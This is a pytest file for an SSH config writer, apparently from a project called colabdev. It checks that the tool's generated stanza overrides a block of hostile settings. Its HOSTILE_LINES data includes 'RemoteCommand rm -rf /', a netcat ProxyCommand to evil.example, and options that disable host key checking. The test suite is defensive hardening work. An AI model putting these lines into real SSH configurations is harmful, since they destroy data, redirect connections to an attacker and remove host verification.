"""Our part of the OpenSSH configuration, as text and as the real ssh understands it."""

from __future__ import annotations

import subprocess
from datetime import UTC, datetime
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from colabdev.core.ssh_config import (
    HEADER,
    drop_known_host,
    drop_stanza,
    put_known_host,
    put_stanza,
    render_stanza,
)
from colabdev.models import ColabTunnel, SshAddress, UserLogin
from tests.support.records import HOST_KEY

ADDRESS = SshAddress("0.tcp.ngrok.io", 17322, "root", HOST_KEY)

GOLDEN = """Host box
  HostName 0.tcp.ngrok.io
  Port 17322
  User root
  AddressFamily any
  IdentityFile "/keys/id_ed25519"
  IdentitiesOnly yes
  IdentityAgent none
  CertificateFile none
  HostKeyAlias colabdev-box
  HostKeyAlgorithms ssh-ed25519
  UserKnownHostsFile "/keys/known_hosts"
  GlobalKnownHostsFile none
  StrictHostKeyChecking yes
  NoHostAuthenticationForLocalhost no
  VerifyHostKeyDNS no
  UpdateHostKeys no
  CheckHostIP no
  PubkeyAuthentication yes
  PubkeyAcceptedKeyTypes ssh-ed25519
  PreferredAuthentications publickey
  PasswordAuthentication no
  KbdInteractiveAuthentication no
  ForwardAgent no
  ForwardX11 no
  ClearAllForwardings no
  ExitOnForwardFailure no
  Tunnel no
  ProxyCommand none
  ProxyJump none
  RemoteCommand none
  RequestTTY auto
  PermitLocalCommand no
  ControlMaster no
  ControlPath none
  ServerAliveInterval 15
  ServerAliveCountMax 4
  ConnectTimeout 20
  LogLevel INFO
"""

# Each line against one of ours; ssh takes the first value it sees.
HOSTILE_LINES = [
    "HostName evil.example",
    "Port 1",
    "User nobody",
    "AddressFamily inet6",
    "IdentitiesOnly no",
    "IdentityAgent /tmp/agent.sock",
    "CertificateFile /tmp/cert.pub",
    "HostKeyAlias github.com",
    "HostKeyAlgorithms ssh-rsa",
    "UserKnownHostsFile /dev/null",
    "GlobalKnownHostsFile /etc/ssh/known_hosts",
    "StrictHostKeyChecking no",
    "NoHostAuthenticationForLocalhost yes",
    "VerifyHostKeyDNS yes",
    "UpdateHostKeys yes",
    "CheckHostIP yes",
    "PubkeyAuthentication no",
    "PubkeyAcceptedKeyTypes ssh-rsa",
    "PreferredAuthentications password",
    "PasswordAuthentication yes",
    "KbdInteractiveAuthentication yes",
    "ForwardAgent yes",
    "ForwardX11 yes",
    "ClearAllForwardings yes",
    "ExitOnForwardFailure yes",
    "Tunnel yes",
    "ProxyCommand nc evil.example 22",
    "ProxyJump evil.example",
    "RemoteCommand rm -rf /",
    "RequestTTY force",
    "PermitLocalCommand yes",
    "ControlMaster auto",
    "ControlPath /tmp/%r@%h",
    "ServerAliveInterval 0",
    "ServerAliveCountMax 1",
    "ConnectTimeout 1",
    "LogLevel QUIET",
]
SAY_THE_DEFAULT = {
    "IdentitiesOnly no",
    "KbdInteractiveAuthentication yes",
    "PasswordAuthentication yes",
    "ServerAliveInterval 0",
    "UpdateHostKeys yes",
}
NO_TERMINAL = "Pseudo-terminal will not be allocated because stdin is not a terminal.\n"
HOSTILE_HOST = "Host *\n" + "".join(f"  {line}\n" for line in HOSTILE_LINES)


def stanza(name: str = "box", directory: Path = Path("/keys")) -> str:
    return render_stanza(
        name, ADDRESS, key_file=directory / "id_ed25519", known_hosts=directory / "known_hosts"
    )


def understood(config: Path, alias: str = "box") -> dict[str, list[str]]:
    """What the real ssh makes of `config`: the values of each option."""
    done = subprocess.run(
        ["ssh", "-G", "-F", str(config), alias], capture_output=True, text=True, check=False
    )
    # Not with -T, which would hide what RequestTTY says.
    assert (done.returncode, done.stderr.replace(NO_TERMINAL, "")) == (0, "")
    options: dict[str, list[str]] = {}
    for line in done.stdout.splitlines():
        key, _, value = line.partition(" ")
        options.setdefault(key, []).append(value)
    return options


def test_stanza_is_written_as_documented() -> None:
    assert stanza() == GOLDEN


def test_hostile_lines_oppose_every_line_of_the_stanza() -> None:
    ours = [line.split()[0] for line in GOLDEN.splitlines()[1:]]
    assert [line.split()[0] for line in HOSTILE_LINES] == [
        key
        for key in ours
        if key != "IdentityFile"  # This one adds up; see IdentitiesOnly.
    ]


def test_ssh_takes_the_stanza_for_what_it_says(tmp_path: Path) -> None:
    (tmp_path / "config").write_text(stanza(directory=tmp_path))
    options = understood(tmp_path / "config")
    wanted = {
        "hostname": "0.tcp.ngrok.io",
        "port": "17322",
        "user": "root",
        "addressfamily": "any",
        "identityfile": f"{tmp_path}/id_ed25519",
        "identitiesonly": "yes",
        "identityagent": "none",
        "hostkeyalias": "colabdev-box",
        "hostkeyalgorithms": "ssh-ed25519",
        "userknownhostsfile": f"{tmp_path}/known_hosts",
        "globalknownhostsfile": "none",
        "stricthostkeychecking": "true",
        "nohostauthenticationforlocalhost": "no",
        "verifyhostkeydns": "false",
        "updatehostkeys": "false",
        "checkhostip": "no",
        "pubkeyauthentication": "true",
        "pubkeyacceptedalgorithms": "ssh-ed25519",
        "preferredauthentications": "publickey",
        "passwordauthentication": "no",
        "kbdinteractiveauthentication": "no",
        "forwardagent": "no",
        "forwardx11": "no",
        "clearallforwardings": "no",
        "exitonforwardfailure": "no",
        "tunnel": "false",
        "requesttty": "auto",
        "permitlocalcommand": "no",
        "controlmaster": "false",
        "serveraliveinterval": "15",
        "serveralivecountmax": "4",
        "connecttimeout": "20",
        "loglevel": "INFO",
    }
    assert {key: options.get(key) for key in wanted} == {
        key: [value] for key, value in wanted.items()
    }
    for absent in ("proxycommand", "proxyjump", "remotecommand", "localcommand", "controlpath"):
        assert absent not in options


@pytest.mark.parametrize("layout", ["same file", "included", "both included"])
def test_hostile_host_behind_the_stanza_changes_nothing(tmp_path: Path, layout: str) -> None:
    ours, hostile, main = tmp_path / "ours", tmp_path / "hostile", tmp_path / "main"
    ours.write_text(stanza())
    hostile.write_text(HOSTILE_HOST)
    main.write_text(
        {
            "same file": stanza() + HOSTILE_HOST,
            "included": f'Include "{ours}"\n{HOSTILE_HOST}',
            "both included": f'Include "{ours}"\nInclude "{hostile}"\n',
        }[layout]
    )
    # The certificate is the one option of these that ssh collects instead of taking the first.
    alone, together = understood(ours), understood(main)
    assert together.pop("certificatefile", ["none"])[0] == alone.pop("certificatefile", ["none"])[0]
    assert together == alone


OWN_LOGIN = UserLogin(
    host="gpu",
    identity_files=("/keys/my key", "/keys/100%"),
    identity_agent="/run/my agent%",
    proxy_command="ssh -W '[fe80::1%eth0]:22' -- jump && echo \"$HOME\" 100%",
)


def own_stanza(login: UserLogin = OWN_LOGIN) -> str:
    address = SshAddress("fe80::1%eth0", 22, "me", HOST_KEY, login)
    return render_stanza("box", address, key_file=Path("/k"), known_hosts=Path("/h"))


def test_stanza_of_an_own_host_says_what_the_user_configured(tmp_path: Path) -> None:
    (tmp_path / "config").write_text(own_stanza())
    options = understood(tmp_path / "config")
    assert options["hostname"] == ["fe80::1%eth0"]
    assert options["identityfile"] == ["/keys/my key", "/keys/100%%"]
    assert options["identityagent"] == ["/run/my agent%"]
    assert options["identitiesonly"] == ["no"]
    command = OWN_LOGIN.proxy_command or ""
    assert options["proxycommand"] == [command.replace("%", "%%")]
    assert options["userknownhostsfile"] == ["/h"]
    assert "rsa-sha2-512" in options["pubkeyacceptedalgorithms"][0]


def test_stanza_behind_a_tunnel_has_our_own_proxy(tmp_path: Path) -> None:
    tunnel = ColabTunnel("gpu-t4-s-1", (HOST_KEY,), datetime(2026, 11, 21, tzinfo=UTC))
    address = SshAddress("127.0.0.1", 40022, "root", HOST_KEY, tunnel=tunnel)
    proxy = "'/my python' -P -m colabdev proxy box 100%"
    stanza = render_stanza(
        "box", address, key_file=Path("/k"), known_hosts=Path("/h"), own_proxy=proxy
    )
    (tmp_path / "config").write_text(stanza)
    options = understood(tmp_path / "config")
    assert options["proxycommand"] == [proxy.replace("%", "%%")]
    assert (options["hostname"], options["port"]) == (["127.0.0.1"], ["40022"])


@pytest.mark.parametrize("agent", ["SSH_AUTH_SOCK", "none", "$MY_AGENT"])
def test_agent_of_an_own_host_is_named_as_the_user_does(tmp_path: Path, agent: str) -> None:
    login = UserLogin("gpu", identity_agent=agent, identities_only=True)
    (tmp_path / "config").write_text(own_stanza(login))
    options = understood(tmp_path / "config")
    assert (options["identityagent"], options["identitiesonly"]) == ([agent], ["yes"])
    assert "proxycommand" not in options


def test_hostile_host_behind_the_stanza_of_an_own_host_changes_nothing(tmp_path: Path) -> None:
    (tmp_path / "ours").write_text(own_stanza())
    (tmp_path / "main").write_text(own_stanza() + HOSTILE_HOST)
    alone, together = understood(tmp_path / "ours"), understood(tmp_path / "main")
    assert together.pop("certificatefile", ["none"])[0] == alone.pop("certificatefile", ["none"])[0]
    assert together == alone


@pytest.mark.parametrize("line", sorted({*HOSTILE_LINES} - SAY_THE_DEFAULT))
def test_hostile_line_would_bite_without_the_stanza(tmp_path: Path, line: str) -> None:
    # Without this the tests above could pass because ssh ignores the hostile lines.
    (tmp_path / "config").write_text(f"Host *\n  {line}\n")
    (tmp_path / "empty").write_text("")
    assert understood(tmp_path / "config") != understood(tmp_path / "empty")


@pytest.mark.parametrize(
    "folder",
    [
        "with space",
        'quo"te',
        "apo's",
        "100%",
        "%h %u %%",
        "back\\slash",
        "end\\",
        "$HOME",
        "#hash",
        "a,b;c",
        "=x",
        "schön-日本語",
        "tab\there",
    ],
)
def test_hostile_path_is_read_back_by_ssh(tmp_path: Path, folder: str) -> None:
    directory = tmp_path / folder
    (tmp_path / "config").write_text(stanza(directory=directory), encoding="utf-8")
    done = subprocess.run(
        ["ssh", "-G", "-F", tmp_path / "config", "box"], capture_output=True, check=True
    )
    lines = done.stdout.decode("utf-8").splitlines()
    # ssh prints the one before and the other after it has expanded the percent signs.
    assert f"identityfile {directory}/id_ed25519".replace("%", "%%") in lines
    assert f"userknownhostsfile {directory}/known_hosts" in lines


NAMES = st.sampled_from(["a", "box", "box-2", "local", "z9"])


@given(names=st.lists(NAMES, max_size=8), name=NAMES)
def test_put_is_idempotent_and_keeps_the_others(names: list[str], name: str) -> None:
    text = ""
    for known in names:
        text = put_stanza(text, known, stanza(known))
    once = put_stanza(text, name, stanza(name))
    assert put_stanza(once, name, stanza(name)) == once
    assert once == HEADER + "".join(f"\n{stanza(known)}" for known in sorted({*names, name}))


@given(names=st.lists(NAMES, max_size=8), name=NAMES)
def test_drop_is_idempotent_and_keeps_the_others(names: list[str], name: str) -> None:
    text = ""
    for known in names:
        text = put_stanza(text, known, stanza(known))
    once = drop_stanza(text, name)
    assert drop_stanza(once, name) == once
    assert once == HEADER + "".join(f"\n{stanza(known)}" for known in sorted({*names} - {name}))


def test_put_replaces_the_stanza_whole() -> None:
    longer = stanza() + "  Compression yes\n"
    text = put_stanza(put_stanza("", "box", longer), "box-2", stanza("box-2"))
    assert put_stanza(text, "box", stanza()) == HEADER + f"\n{stanza()}\n{stanza('box-2')}"


@given(names=st.lists(NAMES, max_size=8), name=NAMES)
def test_known_host_is_put_and_dropped_alone(names: list[str], name: str) -> None:
    text = ""
    for known in names:
        text = put_known_host(text, known, f"ssh-ed25519 {known}")
    put = put_known_host(text, name, HOST_KEY)
    assert put_known_host(put, name, HOST_KEY) == put
    expected = {f"colabdev-{known} ssh-ed25519 {known}" for known in {*names} - {name}}
    assert sorted(put.splitlines()) == sorted(expected | {f"colabdev-{name} {HOST_KEY}"})
    dropped = drop_known_host(put, name)
    assert drop_known_host(dropped, name) == dropped
    assert sorted(dropped.splitlines()) == sorted(expected)


def test_known_host_is_replaced_by_a_new_key() -> None:
    text = put_known_host(
        put_known_host("", "box", "ssh-ed25519 old"), "box-2", "ssh-ed25519 other"
    )
    assert put_known_host(text, "box", "ssh-ed25519 new") == (
        "colabdev-box ssh-ed25519 new\ncolabdev-box-2 ssh-ed25519 other\n"
    )
